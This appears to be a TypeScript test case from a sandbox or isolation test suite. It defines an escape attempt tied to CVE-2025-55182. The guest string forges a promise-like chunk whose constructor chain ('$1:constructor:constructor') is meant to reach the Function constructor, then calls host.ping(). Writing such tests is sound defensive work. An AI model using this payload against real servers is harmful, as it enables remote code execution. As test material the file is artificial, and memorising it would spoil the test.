import type { Attempt } from '../../attempt.ts'

export default {
  technique: 'Sends an object that looks like a chunk of a promise to whoever awaits it.',
  source: 'CVE-2025-55182',
  guest: `
    forge((fields) => [...fields, 1, 7000, 18, 2, ['awaitIt'], [{ then: '\\u00000', status: 'resolved_model', reason: -1, value: '{"then": "$B0"}', _response: { _prefix: 'process', _formData: { get: '$1:constructor:constructor' } } }], [[['home', 2, ['ping', 'constructor']]], null]])
    host.ping()`,
} satisfies Attempt
